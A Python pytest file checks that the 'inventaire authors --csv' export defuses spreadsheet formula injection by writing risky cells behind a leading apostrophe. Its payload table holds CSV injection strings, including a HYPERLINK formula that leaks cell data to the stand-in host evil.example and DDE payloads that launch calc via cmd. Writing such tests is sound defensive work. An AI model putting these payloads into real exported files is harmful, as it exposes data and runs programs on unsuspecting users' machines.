"""``inventaire authors --csv`` never writes a live spreadsheet formula (issue 18,
finding 8).

A handle, a name or an id is typed by strangers or by hand; a cell that starts with
``= + - @``, a tab or a carriage return is run by spreadsheets as a formula
(``=HYPERLINK(…)`` leaks the sheet, ``+cmd|…`` runs a program). Every such cell is
written with a leading apostrophe, as OWASP advises.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hostile.tmpproject import made_up_post, make_project
from inventaire.commands.cli import main
from inventaire.commands.rights_authors import FORMULA_STARTS

PAYLOADS = {
    "hyper": '=HYPERLINK("http://evil.example/?leak="&A1;"clic")',
    "cmd": "+cmd|' /C calc'!A0",
    "sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "spaced": "  =1+1",
}


@pytest.fixture
def table(tmp_path: Path) -> list[dict[str, str]]:
    posts = [made_up_post(i, author=f"a{i}", author_name=payload)
             for i, payload in enumerate(PAYLOADS.values())]
    # Handles and ids from a hand-edited file: the same rule for every cell.
    posts.append(made_up_post(20, author="=HYPERLINK(\"http://x\")", author_name="Nom"))
    posts.append(made_up_post(21, author="-1+2", id="-3+4", author_name="Nom"))
    project = make_project(tmp_path, posts=posts)
    out = tmp_path / "auteurs.csv"
    assert main(["--project", str(project), "authors", "--csv", str(out)]) == 0
    return list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))


def test_no_cell_starts_a_formula(table: list[dict[str, str]]) -> None:
    assert len(table) == len(PAYLOADS) + 2
    for row in table:
        for name, cell in row.items():
            assert not cell.lstrip().startswith(FORMULA_STARTS), (name, cell)


def test_names_are_kept_as_text_behind_the_apostrophe(table: list[dict[str, str]]) -> None:
    names = {row["handle"]: row["name"] for row in table}
    assert names["a0"] == "'" + PAYLOADS["hyper"]
    assert names["a1"] == "'" + PAYLOADS["cmd"]
    assert names["a2"] == "'" + PAYLOADS["sum"]
    assert names["a3"] == "'-2+3"
    assert names["a4"] == "' =1+1" and names["a5"] == "' =1+1"  # one line, defused
    assert names["a6"] == "'  =1+1"


def test_handles_and_ids_are_defused_too(table: list[dict[str, str]]) -> None:
    rows = {row["name"] + row["ids"]: row for row in table if row["name"] == "Nom"}
    handles = sorted(row["handle"] for row in rows.values())
    assert handles == ["'-1+2", "'=HYPERLINK(\"http://x\")"]
    assert any(row["ids"] == "'-3+4" for row in rows.values())
